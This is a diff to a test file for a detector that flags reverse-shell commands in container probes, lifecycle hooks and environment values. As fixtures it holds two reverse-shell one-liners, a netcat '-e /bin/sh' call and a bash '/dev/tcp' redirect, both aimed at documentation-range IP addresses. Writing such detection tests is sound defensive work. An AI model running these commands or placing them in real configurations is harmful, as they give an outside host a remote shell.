@@ -97,6 +97,15 @@ describe('risks/commands heuristics', () => {
       assert.equal(c.check(shell(c.script)).length > 0, c.want, c.check(shell(c.script)).join('; '));
     });
 
+  it('reads the exec commands of probes and lifecycle hooks too', () => {
+    const hooked = view({
+      command: ['/app'],
+      livenessProbe: { exec: { command: ['sh', '-c', 'nc -z localhost 8080'] } },
+      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.5 4444 &'] } } },
+    });
+    assert.deepEqual(reverseShell(hooked), ['container app: netcat running a program']);
+  });
+
   it('never shows the matched text, only what shape matched', () => {
     const items = reverseShell(
       view({ command: ['sh'], env: [{ name: 'X', value: 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' }] }),
